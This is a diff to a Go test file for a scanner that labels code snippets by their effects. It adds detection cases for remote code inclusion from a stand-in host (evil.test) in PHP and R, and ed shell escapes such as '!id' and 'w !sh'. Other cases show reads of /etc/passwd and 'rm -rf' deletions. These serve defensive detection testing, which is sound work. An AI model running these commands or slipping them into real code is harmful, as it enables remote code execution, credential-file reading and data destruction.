@@ -393,6 +393,8 @@ func TestRuby(t *testing.T) {
 func TestPHP(t *testing.T) {
 	testScan(t, "php", []scanCase{
 		{`echo "rm -rf /";`, ""},
+		{`include "https://evil.test/x";`, "rule code.remote; net https://evil.test/x"},
+		{`include "x.php";`, "load x.php"},
 		{`echo PHP_VERSION;`, ""},
 		{`echo json_encode(["a"=>1]);`, ""},
 		{`unlink('x');`, "delete x"},
@@ -452,7 +454,7 @@ func TestR(t *testing.T) {
 		{`system2("rm", c("-rf","x"))`, `exec ["rm" "-rf" "x"]`},
 		{`write.csv(d, file="out.csv")`, "write out.csv"},
 		{`f <- paste0("a", ".txt"); file.remove(f)`, "delete a.txt"},
-		{`source("http://evil.test/x.R")`, "load http://evil.test/x.R; opaque"},
+		{`source("http://evil.test/x.R")`, "rule code.remote; net http://evil.test/x.R; opaque"},
 		{`eval(parse(text=x))`, "opaque"},
 		{`writeLines(r"(a\b)", "x.txt")`, "write x.txt"},
 		{`# system("id")`, ""},
@@ -583,4 +585,24 @@ func TestCommandLanguages(t *testing.T) {
 	})
 	testScan(t, "bash", []scanCase{{"rm x", "sh rm x"}})
 	testScan(t, "julia", []scanCase{{"println(1)", "opaque"}, {" ", ""}})
+}
+
+func TestEd(t *testing.T) {
+	testScan(t, "ed", []scanCase{
+		{"1d\nw\nq", ""},
+		{"1,$s/a/b/g\nwq", ""},
+		{"a\n!rm -rf x\n.\nw", ""},
+		{"!id", "sh id"},
+		{"g/x/s//y/\n,p", ""},
+		{"g/x/!id", "sh id"},
+		{"w out", "write out"},
+		{"1,3w out", "write out"},
+		{"w !sh", "sh sh"},
+		{"r !id", "sh id"},
+		{"r /etc/passwd", "read /etc/passwd"},
+		{"E x", "read x"},
+		{"/a/;/b/w out", "write out"},
+		{"f x\nw", "opaque"},
+		{"$a\nx\n.\n!id", "sh id"},
+	})
 }
